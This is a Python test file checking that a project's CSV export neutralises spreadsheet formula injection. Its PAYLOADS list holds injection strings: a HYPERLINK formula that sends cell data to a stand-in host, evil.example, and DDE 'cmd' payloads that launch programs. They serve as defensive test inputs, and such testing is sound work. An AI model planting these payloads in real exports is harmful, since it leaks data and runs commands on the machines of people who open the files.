"""CSV exports neutralise formula injection: no cell a spreadsheet opens runs as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from metrics.export import FORMULA_PREFIXES, safe_csv_bytes, write_safe_csv

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for the report")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # Sheets trims leading spaces
    "\u3000=1+1",  # an ideographic space
    "\uff1d1+1",  # a full-width equals sign
    "-5 off everything this weekend",
]


def cells(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \u3000").startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")) or (
        cell.startswith(("\t", "\r"))
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_as_a_formula_is_quoted(payload: str) -> None:
    frame = pl.DataFrame({"text": [payload, "a plain post"], "likes": [1, 2]})
    header, risky, plain = cells(safe_csv_bytes(frame))
    assert header == ["text", "likes"]
    assert risky == ["'" + payload, "1"]
    assert plain == ["a plain post", "2"]


def test_every_prefix_the_issue_names_is_covered() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    frame = pl.DataFrame({"text": [f"{p}1+1" for p in FORMULA_PREFIXES]})
    assert [row[0] for row in cells(safe_csv_bytes(frame))[1:]] == [f"'{p}1+1" for p in FORMULA_PREFIXES]


def test_numbers_stay_numbers() -> None:
    frame = pl.DataFrame(
        {
            "likes": [-5, 0, 12],
            "rate": [-2.5, 0.0, 1.25],
            "as_text": ["-5", "+3", "4.5"],  # a plain number written as text is not a formula
        }
    )
    rows = cells(safe_csv_bytes(frame))[1:]
    assert rows == [["-5", "-2.5", "-5"], ["0", "0.0", "+3"], ["12", "1.25", "4.5"]]
    back = pl.read_csv(io.BytesIO(safe_csv_bytes(frame)))
    assert back["likes"].to_list() == [-5, 0, 12] and back["likes"].dtype == pl.Int64


def test_names_lists_and_categories_are_neutralised_too() -> None:
    frame = pl.DataFrame(
        {
            "=HYPERLINK(1)": ["ok"],
            "topics": [["=cmd", "climate"]],
            "brand": pl.Series(["@evil"], dtype=pl.Categorical),
            "type": pl.Series(["=stance"], dtype=pl.Enum(["=stance", "other"])),
            "empty": pl.Series([None], dtype=pl.String),
        }
    )
    header, row = cells(safe_csv_bytes(frame))
    assert header == ["'=HYPERLINK(1)", "topics", "brand", "type", "empty"]
    assert row == ["ok", "'=cmd;climate", "'@evil", "'=stance", ""]


def test_write_safe_csv_writes_the_same_bytes(tmp_path: Path) -> None:
    frame = pl.DataFrame({"text": ["=1+1", "Café"]})
    path = tmp_path / "out.csv"
    write_safe_csv(frame, path)
    assert path.read_bytes() == safe_csv_bytes(frame)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_no_generated_text_reaches_a_spreadsheet_as_a_formula(texts: list[str]) -> None:
    rows = cells(safe_csv_bytes(pl.DataFrame({"text": texts}, schema={"text": pl.String})))[1:]
    for original, (cell,) in zip(texts, rows, strict=True):
        assert not is_formula(cell) or cell.lstrip("+-").replace(".", "", 1).replace(",", "", 1).isdigit(), cell
        assert cell in (original, "'" + original)
